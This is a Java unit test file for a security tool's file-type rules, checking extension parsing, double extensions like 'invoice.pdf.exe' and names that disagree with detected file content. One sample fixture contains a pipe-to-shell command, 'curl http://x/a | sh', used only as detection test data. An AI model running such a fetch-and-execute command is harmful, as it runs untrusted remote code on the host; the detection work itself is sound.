package net.sguil.bridge.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import net.sguil.bridge.files.FileTypeDetector;
import net.sguil.bridge.testpcap.SampleFiles;
import org.junit.jupiter.api.Test;

class FileTypesTest {
    @Test
    void extensionsIgnoreCaseAndTrailingDotsAndSpaces() {
        assertThat(FileTypes.extension("Invoice.PDF")).isEqualTo("pdf");
        assertThat(FileTypes.extension("setup.exe. . ")).isEqualTo("exe");
        assertThat(FileTypes.extension("README")).isEmpty();
        assertThat(FileTypes.extension(null)).isEmpty();
    }

    @Test
    void disagreementNeedsAKnownExtensionAndADifferentType() {
        assertThat(FileTypes.extensionDisagrees("invoice.pdf", "pe", 10)).isTrue();
        assertThat(FileTypes.extensionDisagrees("invoice.pdf", "pdf", 10)).isFalse();
        assertThat(FileTypes.extensionDisagrees("letter.docx", "zip", 10)).isFalse();
        assertThat(FileTypes.extensionDisagrees("photo.jpg", "png", 10)).isTrue();
        assertThat(FileTypes.extensionDisagrees("blob.xyz", "pe", 10)).as("unknown extension").isFalse();
        assertThat(FileTypes.extensionDisagrees("empty.pdf", "data", 0)).as("empty file").isFalse();
        assertThat(FileTypes.extensionDisagrees("a.pdf", null, 10)).isFalse();
    }

    @Test
    void doubleExtensionsHideAnExecutableBehindADocument() {
        assertThat(FileTypes.hasDoubleExtension("invoice.pdf.exe")).isTrue();
        assertThat(FileTypes.hasDoubleExtension("photo.JPG   .scr")).isTrue();
        assertThat(FileTypes.hasDoubleExtension("invoice.pdf.exe.")).isTrue();
        assertThat(FileTypes.hasDoubleExtension("archive.tar.gz")).isFalse();
        assertThat(FileTypes.hasDoubleExtension("setup.v2.exe")).isFalse();
        assertThat(FileTypes.hasDoubleExtension("installer.exe")).isFalse();
        assertThat(FileTypes.hasDoubleExtension("")).isFalse();
    }

    @Test
    void expectedTypesForExtensions() {
        assertThat(FileTypes.expectedTypes("pdf")).containsExactly("pdf");
        assertThat(FileTypes.expectedTypes(".DOCX")).containsExactlyInAnyOrder("ooxml", "zip");
        assertThat(FileTypes.expectedTypes("txt")).containsExactly("text");
        assertThat(FileTypes.expectedTypes("exe")).containsExactlyInAnyOrder("pe", "mz");
        assertThat(FileTypes.expectedTypes("weird")).isEmpty();
        assertThat(FileTypes.expectedTypes(null)).isEmpty();
    }

    /** The rule "name lies about its type" over what the detector really says of real file heads. */
    @Test
    void namesThatLieAboutTheDetectedContent() throws Exception {
        byte[] pe = SampleFiles.pe(new byte[0x100]);
        byte[] elf = {0x7F, 'E', 'L', 'F', 2, 1, 1, 0};
        byte[] script = "#!/bin/sh\ncurl http://x/a | sh\n".getBytes(StandardCharsets.US_ASCII);
        byte[] pdf = "%PDF-1.7\n1 0 obj\n".getBytes(StandardCharsets.US_ASCII);
        byte[] docx = zip("[Content_Types].xml", "word/document.xml");
        byte[] plainZip = zip("readme.txt");
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
        byte[] jpeg = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0};

        assertThat(lies("invoice.pdf", pe)).isTrue();
        assertThat(lies("setup.exe", pe)).isFalse();
        assertThat(lies("libfoo.so", elf)).isFalse();
        assertThat(lies("photo.jpg", elf)).isTrue();
        assertThat(lies("install.sh", script)).isFalse();
        assertThat(lies("notes.txt", script)).isTrue();
        assertThat(lies("report.pdf", pdf)).isFalse();
        assertThat(lies("report.docx", pdf)).isTrue();
        assertThat(lies("letter.docx", docx)).isFalse();
        assertThat(lies("letter.docx", plainZip)).as("a docx is a zip").isFalse();
        assertThat(lies("letter.doc", docx)).as("a .doc is OLE2, not OOXML").isTrue();
        assertThat(lies("photo.png", png)).isFalse();
        assertThat(lies("photo.jpg", png)).isTrue();
        assertThat(lies("photo.jpeg", jpeg)).isFalse();
    }

    private static boolean lies(String name, byte[] content) {
        return FileTypes.extensionDisagrees(name, FileTypeDetector.detect(content, content.length).magic(),
                content.length);
    }

    private static byte[] zip(String... names) throws Exception {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(bo)) {
            for (String n : names) {
                z.putNextEntry(new ZipEntry(n));
                z.write("<x/>".getBytes(StandardCharsets.US_ASCII));
                z.closeEntry();
            }
        }
        return bo.toByteArray();
    }
}
